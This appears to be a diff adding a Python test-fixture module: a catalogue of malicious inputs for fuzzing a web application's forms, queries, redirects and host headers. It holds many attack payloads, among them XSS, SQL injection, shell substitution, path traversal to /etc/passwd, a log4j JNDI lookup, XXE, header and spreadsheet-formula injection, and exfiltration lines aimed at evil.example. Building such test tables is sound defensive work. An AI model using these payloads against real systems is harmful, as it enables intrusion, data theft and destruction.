@@ -1,0 +1,242 @@
+"""What somebody types who means no good: the table of hand-made cases, by what they try."""
+
+from typing import NamedTuple
+
+HUGE = "9" * 25
+
+TEXTS = {  # for every field that takes letters
+    # --- letters that nobody sees, or that reorder what others read
+    "override": "Nasrin\u202egnp.exe",
+    "override both ways": "\u202a\u202b\u202c\u202d\u202eN\u202c",
+    "isolates": "\u2066a\u2067b\u2068c\u2069",
+    "open isolate": "Nasrin \u2067",
+    "marks": "\u200e\u200f\u061cNasrin",
+    "zero width space": "Nas\u200brin",
+    "word joiner": "Nas\u2060rin",
+    "byte order mark": "\ufeffNasrin",
+    "joiners in a row": "می\u200c\u200c\u200cخوێنم",
+    "joiner at the ends": "\u200cکورد\u200c",
+    "joiner between digits": "1\u200c2",
+    "joiner between letters": "می\u200cخوێنم",
+    "soft hyphen": "Nas\u00adrin",
+    "invisible plus": "Nas\u2064rin",
+    "Hangul filler": "\u3164\u3164\u3164",
+    "Braille blank": "\u2800\u2800",
+    "tags": "N\U000e0041\U000e0042\U000e007f",
+    "variation selectors": "N\ufe0f\ufe0e\U000e0100",
+    "noncharacters": "N\ufdd0\uffff\U0001ffff",
+    "private use": "N\ue000\U000f0000",
+    "lines of other systems": "one\r\ntwo\rthree\u2028four\u2029five\x85six",
+    "controls": "bell\x07 escape\x1b[31m delete\x7f next\x9b",
+    "backspaces": "good\x08\x08\x08\x08evil",
+    "NUL": "Nas\x00rin",
+    "NUL alone": "\x00",
+    "vertical tab": "a\x0bb\x0cc",
+    "blanks": "   \t  \n ",
+    "odd blanks": "\u00a0\u2003\u3000\u1680",
+    "combining marks": "Z" + "\u0301\u0327" * 60,
+    "marks without a letter": "\u0301\u064b\u0651",
+    "one ligature": "\ufdfa\ufdfa\ufdfa",
+    "unnormalised": "cafe\u0301 ا\u0653",
+    # --- names that look like others
+    "Cyrillic": "ѕаrа",
+    "Greek": "Νουr",
+    "full width": "Ｎａｓｒｉｎ",
+    "mathematical": "𝐍𝐚𝐬𝐫𝐢𝐧",
+    "Arabic and Persian letters": "علي على علی",
+    "capital I for l": "AIi",
+    "circled": "ⓐⓓⓜⓘⓝ",
+    # --- what a browser would do
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
+    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "image": '"><img src=x onerror=alert(1)>',
+    "attribute": '" onmouseover="alert(1)" x="',
+    "single attribute": "' onfocus='alert(1)' autofocus='",
+    "unquoted attribute": "x onclick=alert(1) ",
+    "drawing": "<svg/onload=alert(1)>",
+    "mathematics": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "end of a text field": "</textarea><script>alert(1)</script>",
+    "end of a title": "</title><script>alert(1)</script>",
+    "comment": "<!--><script>alert(1)</script>-->",
+    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
+    "frame": '<iframe srcdoc="<script>alert(1)</script>">',
+    "style": "<style>@import'//evil.example/x'</style>",
+    "base": '<base href="//evil.example/">',
+    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "form": '<form action="//evil.example"><input name=password>',
+    "link of script": "javascript:alert(1)",
+    "link of script, hidden": "java\tscript:alert(1)",
+    "data link": "data:text/html,<script>alert(1)</script>",
+    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "entity of an entity": "&amp;lt;script&amp;gt;",
+    "escaped script": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "percent script": "%3Cscript%3Ealert(1)%3C/script%3E",
+    "event in rich text": '<p onclick="alert(1)">text</p><a href="javascript:alert(1)">x</a>',
+    "dangling markup": "<img src='//evil.example/?",
+    # --- what a template, a database, a shell or a formatter would do
+    "template": "{{ 1234|add:4321 }}{% debug %}",
+    "another template": "${1234*4321}#{1234*4321}<%= 1234*4321 %>{{1234*4321}}",
+    "format": "{0.__class__} {settings.SECRET_KEY} {self}",
+    "percents": "%s %(name)s %n %d %%",
+    "quote": "Robert'); DROP TABLE accounts_user;--",
+    "double quote": '" OR ""="',
+    "like": "%_\\%",
+    "search language": "a & b | !c <-> d:* 'e' \"f NEAR(g) h^2 -i +j",
+    "shell": "$(id) `id` ; id | id && id",
+    "path": "../../../../etc/passwd",
+    "path of Windows": "..\\..\\con",
+    "log line": "x\ntime=2026-01-01 level=ERROR event=invented",
+    "log4j": "${jndi:ldap://evil.example/a}",
+    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+    # --- what a mail or an answer would do
+    "header": "Nasrin\r\nX-Injected: yes",
+    "header of a mail": "Nasrin\nBcc: everybody@evil.example\n\nbody",
+    "coded header": "=?utf-8?q?=0d=0aBcc:_x@evil.example?=",
+    "percent header": "%0d%0aX-Injected:%20yes",
+    "address with a name": '"x" <x@evil.example>',
+    "two addresses": "a@example.org,b@evil.example",
+    "address with a line": "a@example.org\nBcc: b@evil.example",
+    "odd address": "a@[127.0.0.1]",
+    "Arabic address": "نسرين@مثال.org",
+    # --- what a table would do
+    "formula": '=HYPERLINK("//evil.example","x")',
+    "formula by plus": "+1+cmd|' /C calc'!A0",
+    "formula by minus": "-2+3",
+    "formula by at": "@SUM(1+1)",
+    "formula by tab": "\t=1+1",
+    "formula by full width": "＝1+1",
+    # --- sizes
+    "nothing": "",
+    "one letter": "x",
+    "forty-one letters": "x" * 41,
+    "too long": "ڕ" * 30_000,
+    "one long word": "W" * 3_000,
+    "many lines": "\n" * 5_000,
+    "emoji": "👩🏽‍🚒" * 50,
+    "nested": "[" * 2_000 + "]" * 2_000,
+    # --- numbers where letters are asked
+    "not a number": "NaN",
+    "infinite": "-Infinity",
+    "huge": HUGE,
+    "true": "true",
+    "none": "None",
+    "array": "[]",
+    "object": '{"__proto__": {"a": 1}}',
+}
+
+CHOICES = {  # for whatever is chosen, hidden, counted or dated
+    "nothing": "",
+    "huge": HUGE,
+    "larger than any row": str(2**63),
+    "negative": "-1",
+    "zero": "0",
+    "Arabic digits": "١٢",
+    "Persian digits": "۱۲",
+    "fraction": "1.5",
+    "exponent": "1e309",
+    "hexadecimal": "0x10",
+    "underscore": "1_0",
+    "plus": "+1",
+    "NUL": "\x00",
+    "letters": "zz",
+    "query": "1 OR 1=1",
+    "not a number": "NaN",
+    "list": "1,2",
+    "language that is not": "xx",
+    "language and more": "ar-IQ",
+    "path": "../1",
+    "script": '"><script>alert(1)</script>',
+    "first day": "0001-01-01",
+    "last day": "9999-12-31",
+    "day that is not": "2026-02-30",
+    "leap second": "2026-06-30T23:59:60",
+    "first moment": "0001-01-01T00:00",
+    "last moment": "9999-12-31T23:59",
+    "year without end": "99999-01-01",
+    "hour that is not": "25:61",
+    "Arabic day": "٢٠٢٦-١٢-٠٥",
+    "override": "\u202e1",
+}
+
+
+class Body(NamedTuple):
+    """What is sent instead of a form."""
+
+    content: bytes
+    kind: str = "application/x-www-form-urlencoded"
+
+
+BODIES = {
+    "nothing": Body(b""),
+    "broken UTF-8": Body(b"title=%ff%fe&text=%c3%28&email=%e2%28%a1&word=%f0%28%8c%28"),
+    "lone surrogates": Body(b"title=%ed%a0%80&text=%ed%b0%80&email=%ed%a0%80%40example.org"),
+    "raw bytes": Body(bytes(range(256))),
+    "names of bytes": Body(b"%00=1&%ff=2&%ed%a0%80=3"),
+    "no equals sign": Body(b"&&&title&=&=x&;"),
+    "twice": Body(b"title=a&title=b&email=a%40example.org&email=b%40example.org&key=a&key=b"),
+    "as a list": Body(b"title[]=a&title[0]=b&title.x=c&email[$ne]=1"),
+    "many fields": Body(b"&".join(b"f%d=1" % number for number in range(500))),
+    "megabyte": Body(b"title=" + b"x" * 1_000_001),
+    "almost a megabyte": Body(b"title=" + b"x" * 999_000),
+    "JSON": Body(b'{"title": "x"}', "application/json"),
+    "deep JSON": Body(b"[" * 100_000, "application/json"),
+    "XML": Body(b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "text/xml"),
+    "kind that is not": Body(b"title=x", "no/such; charset=utf-99"),
+    "odd letters": Body(b"title=x", "application/x-www-form-urlencoded; charset=utf-16"),
+    "parts without a border": Body(b"title=x", "multipart/form-data"),
+    "parts that do not end": Body(b'--x\r\nContent-Disposition: form-data; name="title"\r\n\r\nv',
+                                  "multipart/form-data; boundary=x"),
+    "border too long": Body(b"--" + b"x" * 300, "multipart/form-data; boundary=" + "x" * 300),
+    "a file for a text": Body(b'--x\r\nContent-Disposition: form-data; name="title"; filename="../../x.html"\r\n'
+                              b"Content-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n",
+                              "multipart/form-data; boundary=x"),
+    "a name with a line": Body(b'--x\r\nContent-Disposition: form-data; name="ti\r\ntle"\r\n\r\nv\r\n--x--\r\n',
+                               "multipart/form-data; boundary=x"),
+}  # fmt: skip
+
+NEXT = {  # where a sign-in should not lead
+    "other host": "//evil.example/",
+    "other host, three": "///evil.example/",
+    "backslashes": "\\\\evil.example\\",
+    "slash and backslash": "/\\evil.example/",
+    "whole address": "https://evil.example/",
+    "script": "javascript:alert(1)",
+    "data": "data:text/html,x",
+    "with a name": "http://testserver@evil.example/",
+    "with a port": "http://testserver:x@evil.example/",
+    "line": "/en/\r\nX-Injected: yes",
+    "tab": "/\t/evil.example/",
+    "blank": " //evil.example/",
+    "scheme alone": "http:evil.example",
+    "override": "/en/\u202e/",
+    "broken": "http://[::1",
+    "percent": "/%2f%2fevil.example",
+}
+
+HOSTS = {
+    "other": "evil.example",
+    "with a name": "testserver@evil.example",
+    "with a path": "testserver/evil",
+    "with a line": "testserver\r\nX-Injected: yes",
+    "two": "testserver, evil.example",
+    "port that is not": "testserver:99999999",
+    "letters": "tést.example",
+    "nothing": "",
+    "dot": "testserver.",
+    "sixth version": "[::1",
+}
+
+QUERIES = {  # for every name that some page asks for
+    **{f"text: {name}": TEXTS[name] for name in (
+        "override", "NUL", "script", "image", "attribute", "template", "quote", "like", "search language", "header",
+        "path", "too long", "one ligature", "format", "combining marks", "nested",
+    )},
+    **{f"choice: {name}": value for name, value in CHOICES.items()},
+}  # fmt: skip
+
+NAMES_IN_QUERIES = (
+    "q page p o all next after before about to goal theme region place state edition forum council governorate kind "
+    "status language lang read open _changelist_filters _popup e ot pp tab utm_source"
+).split()
+CASES = sum(map(len, (TEXTS, CHOICES, BODIES, NEXT, HOSTS, QUERIES)))
